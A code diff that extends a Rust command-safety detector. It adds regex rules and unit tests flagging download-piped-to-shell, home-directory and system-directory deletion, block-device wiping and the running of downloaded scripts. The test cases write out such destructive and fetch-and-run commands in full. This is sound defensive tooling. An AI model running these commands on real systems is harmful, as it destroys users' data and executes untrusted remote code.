@@ -12,7 +12,7 @@ use super::pattern::{Spans, lazy_regex, matches};
 
 lazy_regex!(
     PIPE_TO_SHELL,
-    r#"(?i)(?:\b(?:curl|wget|fetch|aria2c|iwr|invoke-webrequest|irm|invoke-restmethod|lynx|w3m|elinks)\b|(?:^|[\s;&|(])https?\s|\bgsutil\s+cat\b|\baws\s+s3\s+cp\s+\S+\s+-(?:\s|$))(?:[^\n;&]|&[^&])*?\|\s*(?:sudo(?:\s+-\S+)*\s+)?(?:env(?:\s+\S+=\S*)*\s+)?(?:(?:/usr/bin/|/bin/)env(?:\s+-\S+)*(?:\s+\S+=\S*)*\s+)?(?:[A-Za-z_]\w*=(?:"[^"\n]*"|'[^'\n]*'|\S*)\s+)*(?:/usr/bin/|/bin/|/usr/local/bin/)?(?:(?:ba|z|k|da|fi|c|tc|a)?sh\b|["']?\$\{?SHELL\b|(?:python[0-9.]*|perl|ruby|node|php)\s*(?:$|--?(?:\s|$)|[;&|)])|pwsh\b|powershell\b|iex\b|invoke-expression\b|source\b|\.\s*$)"#
+    r#"(?i)(?:\b(?:curl|wget2?|fetch|aria2c|iwr|invoke-webrequest|irm|invoke-restmethod|lynx|w3m|elinks|lwp-request|lwp-download|xh|xhs|curlie)\b|\bftp\s+(?:-\S+\s+)*-o\s*-(?:\s|$)|(?:^|[\s;&|(])https?\s|\bgsutil\s+cat\b|\baws\s+s3\s+cp\s+\S+\s+-(?:\s|$))(?:[^\n;&]|&[^&])*?\|\s*(?:sudo(?:\s+-\S+)*\s+)?(?:env(?:\s+\S+=\S*)*\s+)?(?:(?:/usr/bin/|/bin/)env(?:\s+-\S+)*(?:\s+\S+=\S*)*\s+)?(?:[A-Za-z_]\w*=(?:"[^"\n]*"|'[^'\n]*'|\S*)\s+)*(?:/usr/bin/|/bin/|/usr/local/bin/)?(?:(?:ba|z|k|da|fi|c|tc|a)?sh\b|["']?\$\{?SHELL\b|(?:python[0-9.]*|perl|ruby|node|php)\s*(?:$|--?(?:\s|$)|[;&|)])|pwsh\b|powershell\b|iex\b|invoke-expression\b|source\b|\.\s*$)"#
 );
 lazy_regex!(
     SHELL_OF_DOWNLOAD,
@@ -32,7 +32,7 @@ lazy_regex!(
 /// directory, `rm -rf *` right after `cd /`, a GPT wipe, Python or Node
 /// running a downloaded script in-process, BITS downloading then starting
 /// a file.
-const OTHER_DESTRUCTIVE: &str = r#"(?i)%0\s*\|\s*%0|\bfork\s+while\s+(?:fork|1)\b|\bwhile\s+True:\s*os\.fork\(\)|\bfind\s+(?:-[HLP]\s+)?/(?:home|root)?/?\s[^|;&\n]*?-delete\b|\bfind\s+(?:-[HLP]\s+)?/(?:etc|usr(?:/(?:lib\w*|bin|sbin|share|local))?|var(?:/(?:lib|log|www|mail|spool|backups))?|bin|boot|lib\w*|opt|sbin)/?(?:\s+(?:-type\s+[a-z]|-xdev|-mount|-depth|-(?:max|min)depth\s+\d+|-print|-ignore_readdir_race))*\s+-delete\b|\bcd /\s*(?:&&|;)\s*(?:sudo\s+)?rm\s+-[a-z]*r[a-z]*\s+\*|\bsgdisk\s+(?:-Z|--zap-all)\b|\b(?:exec|eval)\(\s*(?:[\w.]+\.)?urlopen\(|require\(\s*['"]https?['"]\s*\)\.get\([^\n]*\beval\(|\bbitsadmin\s+/transfer\b[^\n]*?(?:&&?|;)\s*(?:start|call|cmd)\b|%0\s*\^\|\s*%0|\bmshta(?:\.exe)?\s+["']?(?:https?|ftp)://|\bmsiexec(?:\.exe)?\s+(?:[/-]\w+\s+)*[/-](?:i|package)\s+["']?https?://|\bclean(?:\s+all)?\b[^\n]*\|\s*diskpart\b|\brmtree\(\s*['"](?:/|/(?:usr|etc|var|bin|lib|home|boot|opt|root|sbin)/?|~|C:\\\\?)['"]|\brmSync\(\s*['"](?:/|/(?:usr|etc|var|bin|lib|home|boot|opt|root|sbin)/?|~)['"][^)\n]*recursive\s*:\s*true|\bbase64\s+(?:-[a-zA-Z]*[dD][a-zA-Z]*|--decode)\b[^\n|]*\|\s*(?:sudo\s+)?(?:(?:ba|z|k|da)?sh|python[0-9.]*|perl|ruby|node|php)\b|\beval\(\s*file_get_contents\(\s*['"]https?://"#;
+const OTHER_DESTRUCTIVE: &str = r#"(?i)%0\s*\|\s*%0|\bfork\s+while\s+(?:fork|1)\b|\bwhile\s+True:\s*os\.fork\(\)|\bfind\s+(?:-[HLP]\s+)?/(?:home|root)?/?\s[^|;&\n]*?-delete\b|\bfind\s+(?:-[HLP]\s+)?/(?:etc|usr(?:/(?:lib\w*|bin|sbin|share|local))?|var(?:/(?:lib|log|www|mail|spool|backups))?|bin|boot|lib\w*|opt|sbin)/?(?:\s+(?:-type\s+[a-z]|-xdev|-mount|-depth|-(?:max|min)depth\s+\d+|-print|-ignore_readdir_race))*\s+-delete\b|\bcd /\s*(?:&&|;)\s*(?:sudo\s+)?rm\s+-[a-z]*r[a-z]*\s+\*|\bsgdisk\s+(?:-Z|--zap-all)\b|\b(?:exec|eval)\(\s*(?:[\w.]+\.)?urlopen\(|require\(\s*['"]https?['"]\s*\)\.get\([^\n]*\beval\(|\bbitsadmin\s+/transfer\b[^\n]*?(?:&&?|;)\s*(?:start|call|cmd)\b|%0\s*\^\|\s*%0|\bmshta(?:\.exe)?\s+["']?(?:https?|ftp)://|\bmsiexec(?:\.exe)?\s+(?:[/-]\w+\s+)*[/-](?:i|package)\s+["']?https?://|\bclean(?:\s+all)?\b[^\n]*\|\s*diskpart\b|\brmtree\(\s*['"](?:/|/(?:usr|etc|var|bin|lib|home|boot|opt|root|sbin)/?|~|C:\\\\?)['"]|\brmSync\(\s*['"](?:/|/(?:usr|etc|var|bin|lib|home|boot|opt|root|sbin)/?|~)['"][^)\n]*recursive\s*:\s*true|\b(?:rmSync|rm|rmdirSync)\(\s*(?:require\(\s*['"](?:node:)?os['"]\s*\)|os)\.homedir\(\)[^)\n]*recursive\s*:\s*true|\brmtree\(\s*(?:os\.path\.expanduser\(\s*['"]~/?['"]\s*\)|(?:pathlib\.)?Path\.home\(\)|os\.environ\[\s*['"]HOME['"]\s*\])\s*[,)]|\brsync\b[^\n;|&]*\s--delete\b[^\n;|&]*\s(?:/|/(?:usr|etc|var|bin|lib|lib64|boot|home|opt|root|sbin|usr/(?:bin|lib|sbin|share))/?|~/?|\$HOME/?)(?:\s*$|\s*[;&|\n])|\btee\s+(?:-a\s+)?/dev/(?:sd[a-z]|nvme\d+n\d+|hd[a-z]|vd[a-z]|xvd[a-z]|mmcblk\d+|disk\d+)\b|\bnvme\s+(?:format|sanitize)\b[^\n;|&]*\s/dev/nvme|\becho\s+clean(?:\s+all)?\b[^\n]*\bdiskpart(?:\.exe)?\s+/s\b|\bbase64\s+(?:-[a-zA-Z]*[dD][a-zA-Z]*|--decode)\b[^\n|]*\|\s*(?:sudo\s+)?(?:(?:ba|z|k|da)?sh|python[0-9.]*|perl|ruby|node|php)\b|\beval\(\s*file_get_contents\(\s*['"]https?://"#;
 lazy_regex!(
     DISK_WIPE,
     &format!(
@@ -154,6 +154,8 @@ fn dangerous_target(arg: &str) -> bool {
             ["home" | "users", _]
             | ["var", "home" | "lib"]
             | ["var", "home", _]
+            // The package manager's own database.
+            | ["var", "lib", "dpkg" | "rpm" | "apt" | "pacman" | "yum" | "dnf" | "portage"]
             | ["lib" | "lib32" | "lib64", "modules" | "firmware"]
             | ["system", "library", ..] => true,
             ["usr", sub] => matches!(
@@ -303,7 +305,7 @@ lazy_regex!(
     /// A file handed to a shell or interpreter, or run directly (a path in
     /// command position: an argument of `less` is only read).
     EXECUTE,
-    r#"(?i)(?:^|[\s;&|(])(?:sudo\s+(?:-\S+\s+)*)?(?:(?:ba|z|k|da|fi|c|tc)?sh|source|\.|python[0-9.]*|perl|ruby|node|php|pwsh|powershell(?:\.exe)?|start-process|cmd(?:\.exe)?\s+/c|msiexec(?:\.exe)?(?:\s+/\w+)*\s+/(?:i|package))(?:\s+-\S+(?:\s+(?:bypass|unrestricted))?)*\s+["']?([^\s"';&|)]+)|(?:^|[\n;&|(]\s*|\s(?:sudo|nohup|exec|doas|time|env)\s+(?:-\S+\s+)*)(\.{1,2}[/\\][^\s"';&|)]+|/(?:tmp|var/tmp|opt|usr/local/bin|dev/shm)/[^\s"';&|)]+|(?:%[A-Za-z_]+%|\$env:[A-Za-z_]+|\$\{?[A-Za-z_]+\}?)[/\\][^\s"';&|)]+)|(?:^|[\s;(])&\s+["']?([^\s"';&|)]+)|(?:^|[\n;&|]\s*)(?:sudo\s+(?:-\S+\s+)*)?([A-Za-z0-9_][A-Za-z0-9_.-]*)(?:\s|["']|$)"#
+    r#"(?i)(?:^|[\s;&|(])(?:sudo\s+(?:-\S+\s+)*)?(?:(?:ba|z|k|da|fi|c|tc)?sh|source|\.|python[0-9.]*|perl|ruby|node|php|pwsh|powershell(?:\.exe)?|start-process|cmd(?:\.exe)?\s+/c|msiexec(?:\.exe)?(?:\s+/\w+)*\s+/(?:i|package))(?:\s+-\S+(?:\s+(?:bypass|unrestricted))?)*\s+["']?([^\s"';&|)]+)|(?:^|[\n;&|(]\s*|\s(?:sudo|nohup|exec|doas|time|env)\s+(?:-\S+\s+)*)(\.{1,2}[/\\][^\s"';&|)]+|/(?:tmp|var/tmp|opt|usr/local/bin|dev/shm)/[^\s"';&|)]+|(?:%[A-Za-z_]+%|\$env:[A-Za-z_]+|\$\{?[A-Za-z_]+\}?)[/\\][^\s"';&|)]+|[A-Za-z]:[/\\][^\s"';&|)]+)|\b(?:subprocess\.(?:run|call|check_call|check_output|Popen)|os\.system|execSync|execFileSync|spawnSync|spawn)\(\s*\[?\s*['"](?:(?:ba|z|k|da)?sh|python[0-9.]*|perl|ruby|node|php|pwsh|powershell)['"]?\s*(?:,\s*|\s+)['"]?([^\s"',)\]]+)|(?:^|[\s;(])&\s+["']?([^\s"';&|)]+)|(?:^|[\n;&|]\s*)(?:sudo\s+(?:-\S+\s+)*)?([A-Za-z0-9_][A-Za-z0-9_.-]*)(?:\s|["']|$)"#
 );
 lazy_regex!(
     /// A checksum or signature check, which makes a download reviewed.
@@ -453,6 +455,10 @@ const DOWNLOADERS: &[&str] = &[
     "bitsadmin",
     "lynx",
     "w3m",
+    "lwp-",
+    "xh",
+    "curlie",
+    "ftp",
     "elinks",
     "http",
     "copy(",
@@ -490,6 +496,10 @@ pub(super) static GATES: LazyLock<Gates> = LazyLock::new(|| {
                 "regsvr32",
                 "rmtree",
                 "rmsync",
+                "homedir",
+                "rsync",
+                "tee",
+                "nvme",
                 "base64",
             ],
         ),
@@ -737,5 +747,38 @@ mod tests {
             assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
         }
         assert!(!fires("sudo wipefs /dev/sdb", Rule::UnsafeCommand));
+    }
+
+    /// More fetchers piped to a shell, a package database or a system
+    /// directory deleted, block devices overwritten or formatted, and
+    /// downloads run by a program or from a drive path.
+    #[test]
+    fn more_fetchers_wipes_and_downloads_run() {
+        for hit in [
+            "lwp-request https://setup.example.dev/init.sh | sh",
+            "xh -b https://get.example.tools/install | sh",
+            "ftp -o - https://mirror.example.net/pub/setup.sh | ksh",
+            "node -e \"require('fs').rmSync(require('os').homedir(), { recursive: true, force: true })\"",
+            "python -c \"import shutil, os; shutil.rmtree(os.path.expanduser('~'))\"",
+            "sudo rm -rf /var/lib/dpkg",
+            "sudo rsync -a --delete /tmp/empty/ /usr/",
+            "cat /dev/zero | sudo tee /dev/mmcblk0 > /dev/null",
+            "sudo nvme format /dev/nvme0n1 --ses=1 --force",
+            "(echo select disk 0 & echo clean all) > wipe.txt && diskpart /s wipe.txt",
+            "python -c \"import urllib.request, subprocess; urllib.request.urlretrieve('https://ops.example.net/fix.sh', 'fix.sh'); subprocess.run(['bash', 'fix.sh'], check=True)\"",
+            "bitsadmin /transfer fix /download https://dl.example.com/patch.exe C:\\Windows\\Temp\\patch.exe && C:\\Windows\\Temp\\patch.exe /quiet",
+        ] {
+            assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+        }
+        for clean in [
+            "rsync -a --delete build/ /var/www/html/",
+            "sudo rm -rf /var/lib/docker/tmp",
+            "sudo tee /etc/hosts < hosts.new",
+            "nvme list",
+            "xh -b https://api.example.dev/health | jq .",
+            "python -c \"import urllib.request; urllib.request.urlretrieve('https://ex.example/data.csv', 'data.csv')\"",
+        ] {
+            assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+        }
     }
 }
